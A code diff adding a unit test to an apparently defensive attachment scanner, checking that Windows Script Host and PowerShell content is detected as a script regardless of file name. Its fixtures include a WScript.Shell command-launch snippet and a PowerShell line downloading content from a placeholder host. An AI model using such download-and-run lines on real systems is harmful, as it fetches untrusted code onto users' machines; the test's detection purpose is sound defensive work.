@@ -601,6 +601,31 @@ static void test_run_dangerous_name_any_content(void **state)
 	sl_msg_free(m);
 }
 
+/* A text file that drives Windows Script Host or PowerShell is a script
+ * whatever its name (a reader may show another); the text people read is
+ * not, whatever it quotes. */
+static void test_run_script_content(void **state)
+{
+	struct fx *f = *state;
+	struct sl_msg *m = new_msg();
+	static const char wsh[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc\");\r\n";
+	static const char ps[] = "$c = (New-Object Net.WebClient).DownloadString('http://x.test/a');\n";
+	static const char note[] = "Meeting notes: bring the shell scripts and the ActiveX report.\n";
+	int a = attach(m, "application/octet-stream", "statement", wsh, strlen(wsh));
+	int b = attach(m, "text/plain", "notes.txt", ps, strlen(ps));
+	int c = attach(m, "text/plain", "minutes.txt", note, strlen(note));
+	int body = sl_msg_find_part(m, "1");
+	free(m->parts[body].data);
+	m->parts[body].data = (unsigned char *)sl_xstrdup(wsh);
+	m->parts[body].data_len = m->parts[body].size = strlen(wsh);
+	run(f, m);
+	expect(m, SL_FIND_FILETYPE, "script", a);
+	expect(m, SL_FIND_FILETYPE, "script", b);
+	expect_not(m, SL_FIND_FILETYPE, "script", c);
+	expect_not(m, SL_FIND_FILETYPE, "script", body);
+	sl_msg_free(m);
+}
+
 static void test_free_null(void **state)
 {
 	assert_null(sl_filetype_free(NULL));
@@ -624,6 +649,7 @@ int main(void)
 		cmocka_unit_test(test_compressed_streams),
 		cmocka_unit_test_setup_teardown(test_run_unreadable, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_run_dangerous_name_any_content, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_run_script_content, setup, teardown),
 		cmocka_unit_test(test_free_null),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
